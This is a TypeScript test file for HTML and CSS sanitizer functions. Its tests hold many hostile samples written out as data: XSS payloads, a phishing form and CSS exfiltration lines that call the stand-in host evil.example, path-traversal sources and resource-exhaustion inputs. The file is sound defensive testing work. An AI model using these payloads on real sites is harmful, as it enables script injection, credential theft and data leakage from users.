import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cleanCss, cleanHtml } from './clean.ts'

test('HTML keeps its structure, and images of this server', () => {
  const html =
    '<h1 class="big" lang="fr">Été</h1><p>a &lt; b <a href="https://example.org/">x</a></p><img src="/api/portal/v1/images/im_a1" alt="A">'
  assert.equal(
    cleanHtml(html),
    '<h1 class="big" lang="fr">Été</h1><p>a &lt; b <a href="https://example.org/" rel="noopener nofollow">x</a></p><img src="/api/portal/v1/images/im_a1" alt="A" />',
  )
})

test('nothing of HTML runs, loads from elsewhere, asks for input or names what scripts go by', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<ScRiPt/src=//evil.example></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/track.gif">',
    '<img src="/api/portal/v1/images/../../../management/v2/users">',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=x></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example>',
    '<p style="background:url(//evil.example)">x</p>',
    '<p id="__proto__" name="cookie" data-x="1" onclick="x()">x</p>',
    '<style>@import url(//evil.example)</style>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<template><script>alert(1)</script></template>',
  ]
  for (const html of hostile) {
    const clean = cleanHtml(html)
    // What is left of a tag is text, its angle brackets escaped.
    for (const [tag] of clean.matchAll(/<[^>]*>/g)) {
      assert.match(
        tag,
        /^<\/?(?:a|p|img|table)(?: (?:rel|alt|src|href|title)="[^"]*")*(?: \/)?>$/,
        `${html} became ${clean}`,
      )
      assert.doesNotMatch(tag, /evil|javascript|data:|onerror=|management/i, `${html} became ${clean}`)
    }
  }
})

test('CSS keeps what formats a page', () => {
  const css =
    '.a > b { color: red; background: url(/api/portal/v1/images/im_a1) }\n@media (min-width: 40em) { .a { margin: 0 } }'
  assert.equal(cleanCss(css), css)
  assert.equal(cleanCss('p { } }'), '')
})

test('nothing of CSS loads from elsewhere, covers the portal or leaves its element', () => {
  for (const css of [
    '@import "https://evil.example/a.css";',
    '@import url(//evil.example);',
    '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
    'p { background: url(https://evil.example/a.png) }',
    'p { background: URL( "//evil.example" ) }',
    'p { background: \\75rl(//evil.example) }',
    'p { background: u\\72 l(//evil.example) }',
    'p { background: u/**/rl(//evil.example) }',
    'p { background: image-set("https://evil.example/a.png" 1x) }',
    'p { --x: //evil.example; }',
    'input[value^="a"] { background: url(//evil.example/a) }',
    'p { behavior: url(x.htc) }',
    'p { -moz-binding: url(x.xml) }',
    'p { width: expression(alert(1)) }',
    'div { position: fixed; }',
    'div { position: \\66ixed; }',
    '@charset "x"; @namespace url(//evil.example);',
    '@media screen { @import "//evil.example"; p { background: url(//evil.example) } }',
    '@supports (background: url(//evil.example)) { p { color: red } }',
    '/* </style><script>alert(1)</script> */',
    'p::after { content: "</style><script>alert(1)</script>" }',
    '</style><script>alert(1)</script>',
  ]) {
    const clean = cleanCss(css)
    assert.doesNotMatch(clean, /evil|expression|behavior|binding|fixed|<\/|<s/i, `${css} became ${clean}`)
  }
})

test('CSS made to be read in many ways is read once', () => {
  const spaces = ' '.repeat(400_000)
  for (const css of [
    `p { background: "url(${spaces}x" }`,
    `p { background: url${spaces}x }`,
    `p { background: url(${spaces}//evil.example) }`,
    `p { content: "${'/*'.repeat(100_000)}" }`,
    `p { content: "${'url('.repeat(100_000)}" }`,
  ])
    assert.doesNotMatch(cleanCss(css), /evil|url\(/)
})

test('HTML that is nested beyond all measure becomes none, in no time', () => {
  const deep = (levels: number) => `${'<div>'.repeat(levels)}x${'</div>'.repeat(levels)}`
  assert.equal(cleanHtml(deep(500)), deep(500))
  assert.equal(cleanHtml(deep(70_000)), '')
  assert.equal(cleanHtml(`${'<b>'.repeat(150_000)}${'</i>'.repeat(100_000)}`), '')
  const flat = '<p>a<br>b</p>'.repeat(2000)
  assert.equal(cleanHtml(flat).split('<p>').length, 2001)
})

test('end tags that HTML lets one leave out nest nothing', () => {
  for (const [name, around] of [
    ['p', ''],
    ['li', 'ul'],
    ['dt', 'dl'],
  ]) {
    const items = `<${name}>a`.repeat(1500)
    const html = around ? `<${around}>${items}</${around}>` : items
    assert.equal(cleanHtml(html).split(`<${name}>a</${name}>`).length, 1501, name)
  }
})

test('end tags of what is not open close nothing', () => {
  // As many as begin: who counts them finds nothing nested.
  for (const piece of ['<b></i>', '<b title="</b>">', '<b><!-- </b> -->'])
    assert.equal(cleanHtml(piece.repeat(70_000)), '', piece)
})
